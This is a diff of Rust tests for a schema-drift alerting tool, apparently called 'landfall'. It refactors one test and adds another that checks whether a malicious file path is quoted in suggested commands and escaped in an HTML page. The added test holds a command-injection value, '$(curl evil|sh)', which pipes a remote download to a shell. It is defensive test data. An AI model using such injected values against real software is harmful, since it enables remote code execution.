@@ -190,12 +190,6 @@ fn since_leaves_out_what_was_seen_before() {
     );
 }
 
-fn row(contract_now: &str) -> Map<String, Value> {
-    let mut row = Map::new();
-    row.insert("contract_now".to_owned(), contract_now.into());
-    row
-}
-
 fn said(nature: &[&str]) -> Said {
     Said {
         nature: nature.iter().map(|&word| word.to_owned()).collect(),
@@ -206,27 +200,29 @@ fn said(nature: &[&str]) -> Said {
 
 #[test]
 fn r142_f165_a_change_is_open_until_somebody_knows_it_or_it_is_gone() {
-    let state = |finding: Finding, contract: &str, said: Option<Said>, now: Timestamp| {
-        judged(finding, &row(contract), said.as_ref(), now).state
+    let state = |finding: Finding, is_agreed: bool, said: Option<Said>, now: Timestamp| {
+        judged(finding, is_agreed, said.as_ref(), now).state
     };
     let seen = || found("a", "type_changed", Severity::AtRisk, "rescued");
     let gone = || Finding {
         loads_since: 1,
         ..seen()
     };
-    assert_eq!(state(seen(), "1.0.0", None, day(9)), State::Open);
+    assert_eq!(state(seen(), false, None, day(9)), State::Open);
     // Gone for a load only: it may come back, and would be the same alert.
-    assert_eq!(state(gone(), "1.0.0", None, day(10)), State::Open);
-    assert_eq!(state(gone(), "1.0.0", None, day(16)), State::Resolved);
-    assert_eq!(state(gone(), "1.1.0", None, day(10)), State::Resolved);
+    assert_eq!(state(gone(), false, None, day(10)), State::Open);
+    assert_eq!(state(gone(), false, None, day(16)), State::Resolved);
+    assert_eq!(state(gone(), true, None, day(10)), State::Resolved);
+    // An agreement counts once a load was without it.
+    assert_eq!(state(seen(), true, None, day(10)), State::Open);
     // No load since: silence says nothing.
-    assert_eq!(state(seen(), "1.0.0", None, day(40)), State::Open);
+    assert_eq!(state(seen(), false, None, day(40)), State::Open);
     assert_eq!(
-        state(seen(), "1.0.0", Some(said(&["string"])), day(9)),
+        state(seen(), false, Some(said(&["string"])), day(9)),
         State::Acknowledged
     );
     assert_eq!(
-        state(seen(), "1.0.0", Some(said(&["integer"])), day(9)),
+        state(seen(), false, Some(said(&["integer"])), day(9)),
         State::Open
     );
 }
@@ -258,6 +254,34 @@ fn f160_a_page_runs_nothing_that_came_with_data() {
     ] {
         assert!(!html.contains(outside), "{outside}");
     }
+}
+
+#[test]
+fn f160_a_name_in_the_data_is_no_command_and_no_part_of_one() {
+    let mut streams = drifted();
+    let nasty = "x   $(curl evil|sh)";
+    streams[0].findings.truncate(1);
+    streams[0].findings[0].path = nasty.to_owned();
+    streams[0].findings[0].renamed_to = Some(nasty.to_owned());
+    let told = text(streams.clone(), OPEN).unwrap();
+    assert!(
+        told.contains("landfall drift ack shop.orders 'x   $(curl evil|sh)'   say"),
+        "{told}"
+    );
+    let html = page(&streams, &[], now()).unwrap();
+    let commands: Vec<&str> = html
+        .split("<pre class=\"copy\" tabindex=\"0\">")
+        .skip(1)
+        .map(|rest| rest.split("</pre>").next().unwrap())
+        .collect();
+    assert_eq!(
+        commands,
+        [
+            "landfall quarantine show shop.orders 8&#x2f;0&#x2f;3",
+            "landfall contract patch shop.orders",
+            "landfall drift ack shop.orders &#x27;x   $(curl evil|sh)&#x27;",
+        ]
+    );
 }
 
 #[test]
